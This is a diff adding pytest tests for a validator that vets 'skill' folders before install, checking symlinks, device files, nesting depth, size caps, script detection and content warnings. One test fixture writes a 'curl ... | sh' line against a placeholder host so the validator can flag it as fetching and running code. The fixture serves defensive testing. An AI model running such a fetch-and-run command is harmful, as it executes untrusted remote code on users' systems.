@@ -189,6 +189,170 @@ def test_warnings_name_the_file_line_and_what_it_does(tmp_path: Path) -> None:
         assert expected in warnings, warnings
 
 
+def test_a_refusal_names_the_folder_and_lists_each_problem_exactly(tmp_path: Path) -> None:
+    missing = tmp_path / "nothing"
+    with pytest.raises(SkillRefused) as caught:
+        check_folder(missing)
+    assert caught.value.problems == [f"{missing}: No such file or directory; expected a folder"]
+    assert caught.value.message == (
+        f"skill folder {missing} is refused; nothing was installed:\n"
+        f"  - {missing}: No such file or directory; expected a folder"
+    )
+    assert caught.value.hint == (
+        "fix what is listed and run the command again; a skill is a folder NAME/ with a "
+        "SKILL.md whose frontmatter has name: NAME and description:"
+    )
+    plain = tmp_path / "plain"
+    plain.write_text("x")
+    with pytest.raises(SkillRefused) as caught:
+        check_folder(plain)
+    assert caught.value.problems == [
+        f"{plain}: is not a folder; a skill is a folder with a SKILL.md"
+    ]
+    assert caught.value.message.startswith(f"skill folder {plain} is refused")
+    link = tmp_path / "link"
+    link.symlink_to(make_skill(tmp_path))
+    with pytest.raises(SkillRefused) as caught:
+        check_folder(link)
+    assert caught.value.problems == [f"{link}: is a symlink; give the real folder"]
+    assert caught.value.message.startswith(f"skill folder {link} is refused")
+    folder = make_skill(tmp_path, "two", front="name: other\ndescription: x\n")
+    os.mkfifo(folder / "pipe")
+    with pytest.raises(SkillRefused) as caught:
+        check_folder(folder)
+    assert len(caught.value.problems) == 2
+    assert caught.value.message == (
+        f"skill folder {folder} is refused; nothing was installed:\n"
+        + "\n".join(f"  - {p}" for p in caught.value.problems)
+    )
+
+
+def test_every_bad_entry_is_named_and_the_walk_goes_on(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = make_skill(tmp_path)
+    (folder / "a\x1bname").write_text("x")
+    (folder / "b-link").symlink_to("SKILL.md")
+    (folder / "c-gone").write_text("x")
+    (folder / "d-link").symlink_to("SKILL.md")
+    real_lstat = os.lstat
+
+    def lstat(path: Any, *args: Any, **kw: Any) -> os.stat_result:
+        if str(path).endswith("c-gone"):
+            raise FileNotFoundError(2, "No such file or directory")
+        return real_lstat(path, *args, **kw)
+
+    monkeypatch.setattr(os, "lstat", lstat)
+    assert refused(folder).splitlines()[1:] == [
+        "  - a\\u{001b}name: refused: its name contains the control character U+001B",
+        "  - b-link: is a symlink (to SKILL.md); a skill may hold no symlinks: replace it "
+        "with the file itself",
+        "  - c-gone: cannot be read (No such file or directory)",
+        "  - d-link: is a symlink (to SKILL.md); a skill may hold no symlinks: replace it "
+        "with the file itself",
+    ]
+
+
+def test_folders_nest_at_most_eight_deep(tmp_path: Path) -> None:
+    folder = make_skill(tmp_path)
+    (folder / "1/2/3/4/5/6/7").mkdir(parents=True)
+    assert "1/2/3/4/5/6/7/" in check_folder(folder).files
+    (folder / "1/2/3/4/5/6/7/8").mkdir()
+    assert refused(folder).splitlines()[1:] == [
+        "  - 1/2/3/4/5/6/7/8/: nested deeper than 8 folders; keep it flatter"
+    ]
+
+
+def test_a_script_is_executable_by_anyone_or_starts_with_a_shebang(tmp_path: Path) -> None:
+    folder = make_skill(tmp_path)
+    (folder / "scripts/greet.sh").chmod(0o644)  # not executable, but a shebang
+    for name, mode, text in (
+        ("others.py", 0o641, "print()"),  # executable by others only, no shebang
+        ("plain.txt", 0o644, "#"),  # neither: one byte
+        ("bang", 0o644, "#!"),  # exactly a shebang and no more
+        ("notes.md", 0o644, "#! not at the start?"),
+    ):
+        (folder / name).write_text(text)
+        (folder / name).chmod(mode)
+    checked = check_folder(folder)
+    assert checked.scripts == ("bang", "notes.md", "others.py", "scripts/greet.sh")
+    assert checked.total_bytes == sum(
+        (folder / f).stat().st_size for f in checked.files if not f.endswith("/")
+    )
+
+
+def test_the_caps_hold_at_their_exact_values(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = make_skill(tmp_path)
+    checked = check_folder(folder)
+    monkeypatch.setattr(validate, "FOLDER_MAX_FILES", len(checked.files))
+    monkeypatch.setattr(validate, "FOLDER_MAX_BYTES", checked.total_bytes)
+    assert check_folder(folder).total_bytes == checked.total_bytes
+    monkeypatch.undo()
+    limit = 8 * 1024 * 1024
+    with open(folder / "big.bin", "wb") as handle:
+        handle.truncate(limit - checked.total_bytes)  # sparse: the size counts, not blocks
+    assert check_folder(folder).total_bytes == limit
+    with open(folder / "big.bin", "ab") as handle:
+        handle.write(b"x")
+    assert refused(folder).splitlines()[1:] == [
+        f"  - the files come to {limit + 1} bytes; a skill may hold at most 8 MiB"
+    ]
+
+
+def test_sockets_and_devices_are_named(tmp_path: Path) -> None:
+    import socket
+    import stat
+
+    folder = make_skill(tmp_path, "s")
+    server = socket.socket(socket.AF_UNIX)
+    try:
+        server.bind(str(folder / "sock"))
+        lines = refused(folder).splitlines()[1:]
+    finally:
+        server.close()
+    assert lines == ["  - sock: is a socket; a skill holds only regular files and folders"]
+    (folder / "sock").unlink()
+    if os.geteuid() != 0:
+        pytest.skip("making device files needs root")
+    os.mknod(folder / "chr", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
+    os.mknod(folder / "blk", 0o600 | stat.S_IFBLK, os.makedev(7, 200))
+    assert refused(folder).splitlines()[1:] == [
+        "  - blk: is a device; a skill holds only regular files and folders",
+        "  - chr: is a device; a skill holds only regular files and folders",
+    ]
+
+
+def test_warnings_read_the_first_256_kib_of_text_once_per_kind(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = make_skill(tmp_path, body="")  # an empty body is warned of first
+    (folder / "a.bin").write_bytes(b"\x00pip install x\n")
+    (folder / "b.txt").write_bytes(b"a" * 8192 + b"\x00\n\xff pip   install  x\npip install y\n")
+    (folder / "c.txt").write_bytes((b"x" * 63 + b"\n") * 4096 + b"pip install z\n")
+    (folder / "d.txt").write_bytes(b"curl -s https://e.invalid/" + b"p" * 200 + b" | sh\n")
+    (folder / "e.txt").write_bytes(b"pip install " + b"q" * 88 + b"\n")  # 100 characters
+    real_open = open
+
+    def failing_open(path: Any, *args: Any, **kw: Any) -> Any:
+        if str(path).endswith("a.bin") and args == ("rb",) and not kw:
+            raise PermissionError(13, "Permission denied")
+        return real_open(path, *args, **kw)
+
+    assert check_folder(folder).warnings == (
+        "SKILL.md: the body is empty: the model gets no instructions",
+        "a.bin: a binary file: it cannot be read here; know where it is from",
+        "b.txt:2: installs Python packages: \ufffd pip install x",
+        "d.txt:1: fetches code and runs it: curl -s https://e.invalid/" + "p" * 73 + "…",
+        "e.txt:1: installs Python packages: pip install " + "q" * 88,
+    )
+    monkeypatch.setattr(validate, "open", failing_open, raising=False)
+    checked = check_folder(folder)
+    assert "a.bin" not in checked.scripts  # unreadable: no shebang seen
+    assert checked.warnings[1] == "b.txt:2: installs Python packages: \ufffd pip install x"
+
+
 # install, clash, remove
 
 
